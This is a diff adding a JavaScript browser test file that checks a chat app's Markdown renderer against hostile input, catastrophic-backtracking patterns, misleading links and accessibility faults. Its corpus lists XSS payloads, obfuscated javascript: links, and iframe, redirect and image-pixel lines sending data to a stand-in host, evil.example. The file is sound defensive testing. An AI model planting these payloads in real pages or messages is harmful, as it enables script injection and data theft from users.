@@ -1,0 +1,155 @@
+// What models and strangers write can neither run nor load anything, and never hangs the page.
+import assert from 'node:assert/strict';
+import fs from 'node:fs';
+import { axeFile, lastIs, pageTest, say } from './browser.mjs';
+
+const OUT = 'https://evil.example';
+const corpus = [
+    '<script>window.hit = 1</script>', `<img src=x onerror="window.hit=1">`,
+    `<svg onload="window.hit=1"><script>window.hit=1</script></svg>`,
+    `<iframe src="${OUT}"></iframe><object data="${OUT}"></object><embed src="${OUT}">`,
+    `<meta http-equiv="refresh" content="0;url=${OUT}"><base href="${OUT}">`,
+    `<form action="${OUT}"><button autofocus onfocus="window.hit=1">x</button></form>`,
+    `<style>@import url(${OUT}/a.css); body{background:url(${OUT}/b)}</style>`,
+    `<link rel="stylesheet" href="${OUT}/c.css"><a href="javascript:window.hit=1">x</a>`,
+    '[x](javascript:window.hit=1) [y](JaVaScRiPt:window.hit=1) [z](data:text/html,<script>1</script>)',
+    '[a](vbscript:x) [b](blob:x) [c](file:///etc/passwd) <javascript:window.hit=1>',
+    '[x](java\u0000script:window.hit=1) [y](&#106;avascript:window.hit=1) [z](\u0001javascript:1)',
+    `![a](${OUT}/pixel.png?q=secret) ![b](data:image/svg+xml,<svg onload=alert(1)>) ![c][r]\n\n[r]: ${OUT}/r`,
+    `[![a](${OUT}/in-link.png)](${OUT})`, '```html\n<script>window.hit=1</script>\n```',
+    '| <img src=x onerror=window.hit=1> | b |\n|---|---|\n| <script>window.hit=1</script> | `</td>` |',
+    '- [x] <b onclick="window.hit=1">x</b>\n  > <i style="position:fixed">y</i>',
+    'a\u202egnp.exe\u2066 b\u200b', '`\u202e right to left`', '&lt;script&gt;window.hit=1&lt;/script&gt;',
+    '<a href="#/s/x" id="app">x</a><div id="main">y</div>', '__proto__ [constructor](constructor)',
+];
+const TAGS = new Set(['P', 'SPAN', 'A', 'CODE', 'PRE', 'FIGURE', 'FIGCAPTION', 'BUTTON', 'TABLE',
+    'THEAD', 'TBODY', 'TR', 'TH', 'TD', 'UL', 'OL', 'LI', 'BLOCKQUOTE', 'STRONG', 'EM', 'DEL', 'HR',
+    'BR', 'DIV', 'H2', 'H3', 'H4', 'H5', 'H6']);
+
+pageTest('hostile texts become harmless elements', async ({ open, api, s }) => {
+    const id = await s.session({ title: corpus[0], key: corpus[1] });
+    const tool = { role: 'tool', parts: [{ type: 'tool_result', call_id: 'c', name: corpus[1],
+        output: corpus.join('\n') }] };
+    await api('POST', `sessions/${id}/messages`, { messages: [...corpus.flatMap((content) => [
+        { role: 'user', content }, { role: 'assistant', content, model: corpus[1] }]),
+    { role: 'assistant', parts: [{ type: 'reasoning', text: corpus[0] },
+        { type: 'tool_call', call_id: 'c', name: corpus[1], arguments: corpus[0] }] }, tool] });
+    const tab = await open(`#/s/${id}`);
+    await tab.evaluate(() => {
+        window.violations = [];
+        document.addEventListener('securitypolicyviolation', (event) =>
+            window.violations.push(event.violatedDirective));
+    });
+    const last = 2 * corpus.length + 2;
+    for (let seq = 1; seq <= last; seq += 6) {
+        await tab.goto(`${new URL(tab.url()).origin}/#/s/${id}/m/${seq}`);
+        await tab.waitForSelector(`.msg[data-seq="${seq}"]`);
+        await tab.$$eval('details', (all) => all.forEach((one) => { one.open = true; }));
+        const bad = await tab.$$eval('.md *', (all) => all.flatMap((one) =>
+            [one.tagName, ...(one.hasAttribute('style') ? ['style'] : []),
+                ...one.getAttributeNames().filter((name) => name.startsWith('on')),
+                ...(one.href && !/^(https?|mailto):/.test(one.href) ? [one.href] : [])]));
+        assert.deepEqual([...new Set(bad)].filter((one) => !TAGS.has(one)), []);
+    }
+    assert.equal(await tab.evaluate(() => window.hit), undefined);
+    assert.deepEqual(await tab.evaluate(() => window.violations), []);
+    assert.equal(await tab.textContent('.session .name'), corpus[0]);
+});
+
+pageTest('an address with more than its text shows is asked about', async ({ open, s, api, context }) => {
+    const id = await s.session({});
+    const secret = `${OUT}/?q=${'s'.repeat(200)}`;
+    await api('POST', `sessions/${id}/messages`, { role: 'assistant',
+        content: `[docs](${secret}) and [https://bank.example](${OUT}/x)` });
+    const tab = await open(`#/s/${id}`);
+    for (const text of ['docs', 'https://bank.example']) {
+        await tab.click(`.md a:text-is("${text}")`);
+        assert.match(await tab.textContent('dialog .address'), /^https:\/\/evil\.example\//);
+        await tab.click('dialog button:text-is("Cancel")');
+        await tab.waitForSelector('dialog', { state: 'detached' });
+    }
+    assert.equal(context.pages().length, 1);
+});
+
+const nasty = {
+    emphasis: '**a '.repeat(5000), stars: '*'.repeat(20000), underscores: '_a'.repeat(10000),
+    brackets: '['.repeat(20000), links: '[a]('.repeat(5000), images: '!['.repeat(10000),
+    ticks: '`'.repeat(9999) + 'a', 'code spans': '`a ``b '.repeat(4000), angles: '<'.repeat(20000),
+    comments: '<!--'.repeat(5000), tables: `|${'a|'.repeat(3000)}\n|${'-|'.repeat(3000)}`,
+    rules: '- '.repeat(3000), lists: Array.from({ length: 300 }, (_, i) => `${'  '.repeat(i % 60)}- x`).join('\n'),
+    entities: '&amp;'.repeat(10000), backslashes: '\\'.repeat(20001), tildes: '~~a '.repeat(5000),
+    definitions: '[a]: '.repeat(5000), headings: '# '.repeat(5000), spaces: `a${' '.repeat(30000)}b`,
+    fences: '```\n~~~\n'.repeat(4000),
+};
+const NASTY_MS = 2000; // hundreds of times the usual time, for a busy machine
+
+pageTest('nasty patterns are written in time', async ({ open }) => {
+    const tab = await open();
+    for (const [name, text] of Object.entries(nasty)) {
+        const ms = await tab.evaluate(async (source) => {
+            const url = new URL('markdown.js', document.querySelector('script').src);
+            const { markdown, MarkdownStream } = await import(url);
+            const began = performance.now();
+            markdown(source);
+            const stream = new MarkdownStream();
+            for (let i = 0; i < 10; i++)
+                stream.push(source.slice(i * source.length / 10, (i + 1) * source.length / 10));
+            return (performance.now() - began) / 11;
+        }, text);
+        assert.ok(ms < NASTY_MS, `${name}: ${Math.round(ms)} ms`);
+    }
+});
+
+pageTest('a text in pieces becomes the same elements as the whole text', async ({ open }) => {
+    const tab = await open();
+    const text = fs.readFileSync(new URL('../../docs/page.md', import.meta.url), 'utf8') +
+        '\n```js\nlet a = 1;\n```\n\n1. one\n2. two\n\n   more\n\n> quote\n> more\n\nend **bold**';
+    for (const size of [1, 7, 100]) {
+        const [whole, pieces] = await tab.evaluate(async ([source, step]) => {
+            const url = new URL('markdown.js', document.querySelector('script').src);
+            const { markdown, MarkdownStream } = await import(url);
+            const stream = new MarkdownStream();
+            for (let i = 0; i < source.length; i += step) stream.push(source.slice(i, i + step));
+            const words = (one) => one.textContent.replace(/\s+/g, ' ').trim();
+            return [words(markdown(source)), words(stream.element)];
+        }, [text, size]);
+        assert.equal(pieces, whole);
+    }
+});
+
+// ---- Accessibility ----
+
+async function axe(tab, what) {
+    // Through the debugger, because the page itself allows no foreign script.
+    await tab.evaluate(fs.readFileSync(axeFile, 'utf8'));
+    const { violations } = await tab.evaluate(() => window.axe.run(document, { runOnly: ['wcag2a',
+        'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'] }));
+    assert.deepEqual(violations.map((v) => `${what}: ${v.id} at ${v.nodes[0].target}: ${v.nodes[0].failureSummary}`), []);
+}
+
+for (const [name, options] of Object.entries({ light: {}, dark: { theme: 'dark' },
+    phone: { viewport: { width: 320, height: 640 } } })) {
+    pageTest(`axe finds nothing: ${name}`, options, async ({ open, api, s }) => {
+        const id = await s.session({ title: 'A conversation' });
+        await api('POST', `sessions/${id}/messages`, { messages: [{ role: 'system', content: 'x' },
+            { role: 'user', content: 'one' },
+            { role: 'assistant', content: '# a\n\n```js\nlet a;\n```\n\n- [ ] b\n\n|a|b|\n|-|-|\n|c|d|\n\n[e](https://a.example)' }] });
+        const tab = await open();
+        await axe(tab, 'start');
+        await tab.goto(`${new URL(tab.url()).origin}/#/s/${id}`);
+        await lastIs(tab, await tab.waitForSelector('.msg.assistant .body')
+            .then((body) => body.textContent()));
+        await tab.focus('.msg.assistant');
+        await axe(tab, 'conversation');
+        await say(tab, 'go <<say a b c>><<chunk 2>><<stall after=1>>');
+        await tab.waitForSelector('.live .md');
+        await axe(tab, 'streaming');
+        const wide = await tab.evaluate(() => document.documentElement.scrollWidth - innerWidth);
+        assert.ok(wide <= 0, `${wide} pixels too wide`);
+        await s.release();
+        await lastIs(tab, 'a b c');
+        await tab.keyboard.press('Escape');
+        await tab.keyboard.press('?');
+        await axe(tab, 'dialog');
+    });
+}
